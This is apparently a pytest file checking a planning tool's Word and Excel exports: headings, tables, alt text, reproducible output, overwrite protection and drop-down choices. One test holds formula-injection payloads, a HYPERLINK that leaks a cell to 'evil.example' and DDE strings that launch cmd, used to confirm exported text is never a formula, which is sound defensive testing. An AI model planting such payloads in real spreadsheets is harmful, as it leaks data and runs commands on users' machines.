"""Word plans (render --format docx) and Excel trackers (export --format xlsx), read back with
python-docx and openpyxl as Word and Excel would read them."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
import yaml
from docx.oxml.ns import qn
from docx.shared import Mm

from spreadkit.answers.loading import read_answers
from spreadkit.framework.model import QuestionType
from spreadkit.plan.output import document, word
from spreadkit.plan.output import word_workbook as docplan
from spreadkit.plan.tracker.export import tables
from spreadkit.plan.views import workbook as view

from .conftest import NORTHFIELD, NORTHFIELD_CHECKINS, Cli


@pytest.fixture(scope="module")
def northfield_docx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("docx") / "plan.docx"
    result = Cli()("render", str(NORTHFIELD), "-d", "workbook", "--output", str(target))
    assert result.exit_code == 0, result.output
    return target


@pytest.fixture(scope="module")
def northfield_xlsx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("xlsx") / "tracker.xlsx"
    result = Cli()("export", str(NORTHFIELD), "--format", "xlsx", "--output", str(target))
    assert result.exit_code == 0, result.output
    return target


def _plan(framework):
    answers = read_answers(NORTHFIELD, framework)
    return answers, view.build(framework, answers)


# -- Word ------------------------------------------------------------------------------------------


def test_docx_headings_use_words_own_styles(northfield_docx: Path, framework) -> None:
    _, plan = _plan(framework)
    paragraphs = docx.Document(str(northfield_docx)).paragraphs
    by_style: dict[str, list[str]] = {}
    for paragraph in paragraphs:
        by_style.setdefault(paragraph.style.name, []).append(paragraph.text)
    assert by_style["Title"] == [plan.title]
    assert by_style["Heading 1"] == [
        "At a glance",
        *(section.heading for section in plan.sections),
        *(f"Appendix {a.number}: {a.title}" for a in plan.appendices),
        "Sources and assumptions",
        "About this plan",
    ]
    parts = [part.title for section in plan.sections for part in section.parts]
    assert set(parts) <= set(by_style["Heading 2"])


def test_docx_tables_repeat_their_header_row_and_say_rag_in_words(
    northfield_docx: Path, framework
) -> None:
    _, plan = _plan(framework)
    tables_ = docx.Document(str(northfield_docx)).tables
    answered_tables = [
        item
        for s in plan.sections
        for p in s.parts
        for item in p.answered
        if item.layout == "table"
    ]
    assert len(tables_) > len(answered_tables)  # and the scores, the details, …
    shaded = []
    for table in tables_:
        header = table.rows[0]._tr
        assert header.trPr is not None
        repeat = header.trPr.find(qn("w:tblHeader"))
        assert repeat is not None and repeat.get(qn("w:val")) == "true"
        for row in table.rows[1:]:
            for cell in row.cells:
                shade = cell._tc.tcPr.find(qn("w:shd")) if cell._tc.tcPr is not None else None
                if shade is not None:
                    shaded.append((shade.get(qn("w:fill")), cell.text))
    assert shaded
    words = {fill: set() for fill in word.SHADES.values()}
    for fill, text in shaded:
        words[fill].add(text.split(" ")[0].rstrip(":"))
    # every coloured cell says its colour (or that it is a gap) in words too
    assert words[word.SHADES["green"]] == {"Green"}
    assert words[word.SHADES["amber"]] == {"Amber"}
    assert words[word.SHADES["red"]] <= {"Red", "Gap"}


def test_docx_board_plan_table_headings_are_never_broken_inside_a_word(tmp_path: Path) -> None:
    # LibreOffice showed the board plan's measures as "Baselin e" and "Targe t": a heading
    # word must fit its column (measured in Liberation Sans Bold, Arial's metric twin). The
    # workbook's sixteen-column sites table cannot give every heading its room.
    from PIL import ImageFont

    try:
        bold = ImageFont.truetype("LiberationSans-Bold.ttf", 1000)
    except OSError:
        pytest.skip("no Liberation Sans on this machine")
    target = tmp_path / "plan.docx"
    result = Cli()("render", str(NORTHFIELD), "--output", str(target))
    assert result.exit_code == 0, result.output
    margins = Mm(2 * word.PADDING_MM)  # the tables' cell margins, left and right
    for table in docx.Document(str(target)).tables:
        header = table.rows[0].cells
        size = header[0].paragraphs[0].runs[0].font.size.pt
        for cell in header:
            for word_text in cell.text.split():
                points = bold.getlength(word_text) / 1000 * size
                assert Mm(points * 25.4 / 72) + margins <= cell.width, (word_text, cell.text)


def test_docx_pictures_are_images_with_alt_text(northfield_docx: Path, framework) -> None:
    _, plan = _plan(framework)
    charts = [chart for section in plan.sections for chart in section.charts if chart.svg]
    shapes = docx.Document(str(northfield_docx)).inline_shapes
    assert len(shapes) == len(charts) > 3
    for shape, chart in zip(shapes, charts, strict=True):
        described = shape._inline.docPr.get("descr")
        assert described == document.Picture(chart.svg, chart.title, chart.description).alt_text
        assert chart.title in described and chart.description in described
        assert shape.width <= Mm(170) + 1


def test_docx_properties_page_and_bytes_come_from_the_plan(
    northfield_docx: Path, tmp_path: Path, cli: Cli
) -> None:
    details = yaml.safe_load(NORTHFIELD.read_text(encoding="utf-8"))["plan"]
    document_ = docx.Document(str(northfield_docx))
    core = document_.core_properties
    assert core.title == details["title"]
    assert core.author == core.last_modified_by == details["lead"]
    assert core.created.date() == details["created"]
    assert core.modified.date() == details["updated"]
    assert core.identifier.startswith("spreadkit plan; sha256:")
    first = document_.sections[0]
    assert (round(first.page_width.mm), round(first.page_height.mm)) == (210, 297)  # A4
    assert round(first.left_margin.mm) == round(first.right_margin.mm) == 20
    landscape = [s for s in document_.sections if s.page_width > s.page_height]
    assert landscape and all(round(s.page_width.mm) == 297 for s in landscape)  # wide tables
    again = tmp_path / "again.docx"
    assert cli("render", str(NORTHFIELD), "-d", "workbook", "--output", str(again)).exit_code == 0
    assert again.read_bytes() == northfield_docx.read_bytes()  # no wall clock anywhere
    dates = {info.date_time for info in zipfile.ZipFile(again).infolist()}
    assert dates == {(1980, 1, 1, 0, 0, 0)}


def test_a_plan_without_dates_has_no_made_up_dates(framework) -> None:
    answers = read_answers(NORTHFIELD, framework)
    plan = view.build(framework, answers)
    details = {k: v for k, v in answers.details.items() if k not in ("created", "updated")}
    data = word.to_docx(docplan.workbook_document(plan, details))
    core_xml = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml")
    assert b"dcterms:created" not in core_xml and b"dcterms:modified" not in core_xml


def test_an_edited_docx_is_not_overwritten_without_force(
    northfield_docx: Path, tmp_path: Path, cli: Cli
) -> None:
    target = tmp_path / "plan.docx"
    target.write_bytes(northfield_docx.read_bytes())
    assert (
        cli("render", str(NORTHFIELD), "-d", "workbook", "--output", str(target)).exit_code == 0
    )  # ours: replaced
    edited = docx.Document(str(target))
    edited.add_paragraph("A note the programme board added.")
    edited.save(str(target))
    kept = target.read_bytes()
    result = cli("render", str(NORTHFIELD), "-d", "workbook", "--output", str(target))
    assert result.exit_code == 1
    assert "not overwritten: it was edited since spreadkit wrote it" in result.output
    assert target.read_bytes() == kept
    result = cli("render", str(NORTHFIELD), "-d", "workbook", "--output", str(target), "--force")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "plan.docx.bak").read_bytes() == kept
    assert target.read_bytes() == northfield_docx.read_bytes()


def test_a_docx_spreadkit_never_wrote_is_refused(tmp_path: Path, cli: Cli) -> None:
    theirs = tmp_path / "board-paper.docx"
    docx.Document().save(str(theirs))
    garbled = tmp_path / "garbled.docx"
    garbled.write_bytes(b"PK\x03\x04 not really a zip")
    for target in (theirs, garbled):
        before = target.read_bytes()
        result = cli("render", str(NORTHFIELD), "--output", str(target))
        assert result.exit_code == 1
        assert "spreadkit did not write this file (it has no spreadkit stamp)" in result.output
        assert target.read_bytes() == before


def test_an_output_named_docx_is_a_word_document(cli: Cli, tmp_path: Path) -> None:
    """Issue: `render -o x.docx` once wrote Markdown into a .docx file."""
    target = tmp_path / "PLAN.DOCX"
    assert cli("render", str(NORTHFIELD), "-o", str(target)).exit_code == 0
    assert docx.Document(str(target)).paragraphs[0].style.name == "Title"
    result = cli("render", str(NORTHFIELD), "--format", "md", "-o", str(target))
    assert result.exit_code == 2
    assert "--format md does not match --output" in result.output


def test_docx_needs_an_output_file(cli: Cli) -> None:
    result = cli("render", str(NORTHFIELD), "--format", "docx")
    assert result.exit_code == 2
    assert "a Word plan needs --output PLAN.docx" in result.output


# -- Excel -----------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_table_with_real_values(northfield_xlsx: Path, framework) -> None:
    answers = read_answers(NORTHFIELD, framework)
    book = openpyxl.load_workbook(northfield_xlsx)
    exported = tables(framework)
    assert book.sheetnames == [*exported, "readings", "_spreadkit", "choices"]
    assert [book[name].sheet_state for name in book.sheetnames[-2:]] == ["hidden", "hidden"]
    for name, (section, question) in exported.items():
        sheet = book[name]
        records = answers.get(section.id, question.id) or []
        assert sheet.max_row == len(records) + 1
        assert sheet.freeze_panes == "C2"
        assert sheet.cell(1, 1).value == "Row key"
        assert [sheet.cell(row, 1).value for row in range(2, sheet.max_row + 1)] == list(
            range(1, len(records) + 1)
        )
    actions = book["actions"]
    headers = [cell.value for cell in actions[1]]
    due = headers.index("Due") + 1
    first_due = answers.get("implement", "actions")[0]["due"]
    assert actions.cell(2, due).value == dt.datetime.combine(first_due, dt.time())
    assert actions.cell(2, due).number_format == "d mmm yyyy"
    budget = book["budget"]
    amount = [cell.value for cell in budget[1]].index("Amount") + 1
    assert budget.cell(2, amount).value == answers.get("implement", "budget")[0]["amount"]
    assert "£" in budget.cell(2, amount).number_format
    headers = [cell.value for cell in budget[1]]
    assert "Spent so far" in headers
    assert headers[-4:] == [
        "Period from",
        "Period to",
        "Sources cited",  # the budget's own "Source" is where the money comes from
        "Assumed",
    ]
    assert [cell.value for cell in actions[1]][-2:] == ["Sources", "Assumed"]
    risks = book["risks"]
    likelihood = [cell.value for cell in risks[1]].index("Likelihood") + 1
    assert isinstance(risks.cell(2, likelihood).value, int)
    assert [cell.value for cell in book["readings"][1]] == [
        "Measure",
        "Date",
        "Value",
        "N",
        "Time point or group",
    ]
    for letter, dimension in actions.column_dimensions.items():
        assert 8 <= dimension.width <= 52, letter


def test_xlsx_drop_downs_offer_the_contents_choices(northfield_xlsx: Path, framework) -> None:
    book = openpyxl.load_workbook(northfield_xlsx)
    _, question = tables(framework)["actions"]
    status = next(f for f in question.fields if f.id == "status")
    actions = book["actions"]
    column = [cell.value for cell in actions[1]].index(status.title) + 1
    letter = openpyxl.utils.get_column_letter(column)
    rule = next(v for v in actions.data_validations.dataValidation if f"{letter}2" in str(v.sqref))
    assert rule.type == "list" and rule.showErrorMessage
    sheet_name, cells = rule.formula1.split("!")
    listed = [c.value for row in book[sheet_name][cells.replace("$", "")] for c in row]
    assert listed == [choice.label for choice in status.choices]
    due = [cell.value for cell in actions[1]].index("Due") + 1
    kinds = {v.type for v in actions.data_validations.dataValidation}
    assert {"list", "date"} <= kinds
    assert any(
        openpyxl.utils.get_column_letter(due) + "2" in str(v.sqref) and v.type == "date"
        for v in actions.data_validations.dataValidation
    )


def test_xlsx_choice_columns_are_wide_enough_for_every_choice(
    northfield_xlsx: Path, framework
) -> None:
    # Every Northfield action is "Done"; a team that picks "Not started" or "In progress" from the
    # drop-down must still read the whole word, not "Not starte"
    book = openpyxl.load_workbook(northfield_xlsx)
    for name, (_, question) in tables(framework).items():
        sheet = book[name]
        headers = [cell.value for cell in sheet[1]]
        for field in question.fields:
            if field.type is not QuestionType.CHOICE or field.title not in headers:
                continue
            letter = openpyxl.utils.get_column_letter(headers.index(field.title) + 1)
            longest = max(len(choice.label) for choice in field.choices)
            width = sheet.column_dimensions[letter].width
            assert width >= min(longest, 50) + 2, (name, field.title, width)


def test_xlsx_map_sheet_names_every_column(northfield_xlsx: Path, framework) -> None:
    book = openpyxl.load_workbook(northfield_xlsx)
    rows = list(book["_spreadkit"].iter_rows(values_only=True))
    assert rows[0] == ("sheet", "column", "header", "section", "question", "field", "part", "type")
    mapped = {(r[0], r[1]): r for r in rows[1:]}
    for name, (section, question) in tables(framework).items():
        sheet = book[name]
        for cell in sheet[1]:
            entry = mapped[(name, cell.column_letter)]
            assert entry[2] == cell.value and entry[3:5] == (section.id, question.id)
        fields = {f.id: f for f in question.fields}
        for entry in rows[1:]:
            if entry[0] == name and entry[6] in ("sources", "assumed"):
                assert entry[5] is None and entry[7] == "text"
            elif entry[0] == name and entry[6] != "key":
                assert QuestionType(entry[7]) is fields[entry[5]].type


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "#N/A",
]


def test_xlsx_text_is_never_a_formula(tmp_path: Path, cli: Cli) -> None:
    rows = "".join(
        f"      - task: {json.dumps(task)}\n        owner: {json.dumps(task)}\n"
        for task in FORMULAS
    )
    answers = tmp_path / "hostile.answers.yml"
    answers.write_text(f"answers:\n  implement:\n    actions:\n{rows}", encoding="utf-8")
    target = tmp_path / "tracker.xlsx"
    result = cli("export", str(answers), "--format", "xlsx", "--output", str(target))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = openpyxl.load_workbook(target)["actions"]
    cells = [sheet.cell(row, 2) for row in range(2, 2 + len(FORMULAS))]
    assert [cell.value for cell in cells] == FORMULAS  # exactly the text typed
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, False]


def test_an_edited_tracker_is_not_overwritten_without_force(
    northfield_xlsx: Path, tmp_path: Path, cli: Cli
) -> None:
    target = tmp_path / "tracker.xlsx"
    target.write_bytes(northfield_xlsx.read_bytes())
    args = ("export", str(NORTHFIELD), "--format", "xlsx", "--output", str(target))
    assert cli(*args).exit_code == 0
    assert target.read_bytes() == northfield_xlsx.read_bytes()  # the same tracker, byte for byte
    book = openpyxl.load_workbook(target)
    book["actions"]["E2"] = "Blocked"  # a status changed, as a person would in Excel
    book.save(target)
    kept = target.read_bytes()
    result = cli(*args)
    assert result.exit_code == 1
    assert "not overwritten: it was edited since spreadkit wrote it" in result.output
    assert target.read_bytes() == kept
    assert cli(*args, "--force").exit_code == 0
    assert (tmp_path / "tracker.xlsx.bak").read_bytes() == kept


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--table", "actions"], "a workbook holds every table"),
        ([], "a workbook needs --output FILE.xlsx"),
        (["--output", "tracker.csv"], "a workbook needs --output FILE.xlsx"),
    ],
)
def test_xlsx_usage_mistakes(cli: Cli, args: list[str], message: str) -> None:
    result = cli("export", str(NORTHFIELD), "--format", "xlsx", *args)
    assert result.exit_code == 2
    assert message in result.output


def test_a_tracker_without_plan_dates_has_no_made_up_dates(tmp_path: Path, cli: Cli) -> None:
    answers = tmp_path / "undated.answers.yml"
    answers.write_text(
        "answers:\n  implement:\n    actions:\n      - task: Start\n        owner: Me\n",
        encoding="utf-8",
    )
    target = tmp_path / "tracker.xlsx"
    result = cli("export", str(answers), "--format", "xlsx", "--output", str(target))
    assert result.exit_code == 0, result.output
    core_xml = zipfile.ZipFile(target).read("docProps/core.xml")
    assert b"dcterms:created" not in core_xml and b"dcterms:modified" not in core_xml
    assert openpyxl.load_workbook(target)["actions"]["B2"].value == "Start"


def test_pictures_are_drawn_in_the_html_plans_colours() -> None:
    from PIL import Image

    from spreadkit.plan.pictures import raster, svg

    chart = svg.frame(
        "c",
        200,
        100,
        "Title",
        "Words",
        [
            '<rect x="10" y="10" width="50" height="20" class="chart-green"/>',
            '<path d="M150 50 l10 10 l-10 10 l-10 -10 z" class="chart-decision"/>',
            '<text x="100" y="90" text-anchor="middle" class="chart-text">Label</text>',
        ],
    )
    png, width, height = raster.svg_to_png(chart)
    image = Image.open(io.BytesIO(png)).convert("RGB")
    assert (width, height) == (200, 100)
    assert image.size == (200 * raster.SCALE, 100 * raster.SCALE)
    s = raster.SCALE
    assert image.getpixel((35 * s, 20 * s)) == (0x00, 0x7F, 0x3B)  # chart-green, as plan.css
    assert image.getpixel((150 * s, 60 * s)) == (0x21, 0x2B, 0x32)  # the diamond
    assert image.getpixel((5 * s, 5 * s)) == (255, 255, 255)
    words = image.crop((80 * s, 75 * s, 120 * s, 95 * s))
    assert all(low < 128 for low, _ in words.getextrema())  # the label is drawn there


def test_xlsx_readings_sheet_holds_every_reading_from_the_checkins(
    cli: Cli, tmp_path: Path, framework
) -> None:
    source = NORTHFIELD_CHECKINS
    target = tmp_path / "tracker.xlsx"
    assert cli("export", str(source), "--format", "xlsx", "--output", str(target)).exit_code == 0
    sheet = openpyxl.load_workbook(target)["readings"]
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows(min_row=2)]
    wait = [(row[1].date(), row[2]) for row in rows if row[0].startswith("Wait for")]
    assert wait == [
        (dt.date(2027, 10, 1), 30),
        (dt.date(2028, 1, 5), 21),
        (dt.date(2028, 4, 3), 14),
    ]
    answers = read_answers(source, framework)
    assert len(rows) == sum(len(c.readings) for c in answers.checkins)


def test_the_default_word_plan_is_the_board_plan(cli: Cli, tmp_path: Path, framework) -> None:
    """`render --output plan.docx` writes the same document as `render` does: the board plan,
    in the board's order, with the still-to-decide list, and pictures with alt text."""
    from spreadkit.plan.views import board

    target = tmp_path / "board.docx"
    assert cli("render", str(NORTHFIELD), "--output", str(target)).exit_code == 0
    word = docx.Document(str(target))
    view = board.build(framework, read_answers(NORTHFIELD, framework))
    headings = [p.text for p in word.paragraphs if p.style.name == "Heading 1"]
    expected = [f"{n}. {b.heading}" for n, b in enumerate(view.blocks, start=1)]
    assert headings == [*expected, view.undecided_heading]
    assert word.paragraphs[0].style.name == "Title" and word.paragraphs[0].text == view.title
    assert any(p.text.startswith("Status: For approval") for p in word.paragraphs)
    pictures = word.inline_shapes
    assert len(pictures) >= 1
    for shape in pictures:
        assert shape._inline.docPr.get("descr")
    assert "At a glance" not in "\n".join(p.text for p in word.paragraphs)
